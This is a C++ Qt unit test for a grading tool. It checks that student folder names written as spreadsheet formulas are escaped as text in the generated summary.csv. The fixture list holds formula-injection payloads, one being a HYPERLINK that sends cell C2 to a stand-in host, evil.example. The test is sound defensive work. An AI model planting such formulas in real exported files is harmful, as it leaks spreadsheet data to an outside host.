// summary.csv as a spreadsheet reads it: a class whose folder names are formulas, graded by a
// real GradeBatch (each is refused before anything runs: none holds a program), must come back
// as the names the students gave, kept as text, with the error beside each.

#include "grading/gradebatch.h"
#include "support/csvrecords.h"
#include "support/runharness.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Sandpit::Core;

namespace {
// Folder names cannot hold '/', so no URL scheme; the formula is what matters.
const QStringList kFormulaStudents{QStringLiteral("=HYPERLINK(\"evil.example?\"&C2,\"Click for your marks\")"),
                                   QStringLiteral("+1+1"), QStringLiteral("@SUM(B2:B9)"), QStringLiteral("-2+3")};

QString readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}
} // namespace

class TestGradeSummaryCsv : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }

    void formulaFolderNamesStayText()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString submissions = dir.filePath(QStringLiteral("submissions"));
        for (const QString &student : kFormulaStudents) {
            QVERIFY(QDir().mkpath(submissions + u'/' + student));
            QFile notes(submissions + u'/' + student + QStringLiteral("/notes.txt"));
            QVERIFY(notes.open(QIODevice::WriteOnly));
        }
        GradeRequest request;
        request.packPath = SandpitTest::fixturesDir() + QStringLiteral("/grading/pack");
        request.exerciseId = QStringLiteral("02-max-of-three-c");
        request.submissionsPath = submissions;
        request.outDir = dir.filePath(QStringLiteral("out"));
        GradeBatch batch;
        QSignalSpy finished(&batch, &GradeBatch::batchFinished);
        batch.start(request);
        QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 60000);
        const auto summary = finished.first().first().value<GradeSummary>();
        QCOMPARE(summary.failed, kFormulaStudents.size());

        const QList<QStringList> rows = SandpitTest::csvRecords(readAll(summary.summaryCsvPath));
        QCOMPARE(rows.size(), 1 + kFormulaStudents.size());
        const QStringList header = rows.first();
        const qsizetype error = header.indexOf(QStringLiteral("error"));
        QVERIFY(error > 0);
        QStringList students;
        for (const QStringList &row : rows.mid(1)) {
            QCOMPARE(row.size(), header.size());
            students << row.first();
            QVERIFY2(row.at(error).startsWith(QStringLiteral("no program found")), qPrintable(row.at(error)));
        }
        QStringList expected;
        for (const QString &student : kFormulaStudents)
            expected << u'\'' + student;
        students.sort();
        expected.sort();
        QCOMPARE(students, expected);
    }
};

QTEST_GUILESS_MAIN(TestGradeSummaryCsv)
#include "tst_gradesummarycsv.moc"
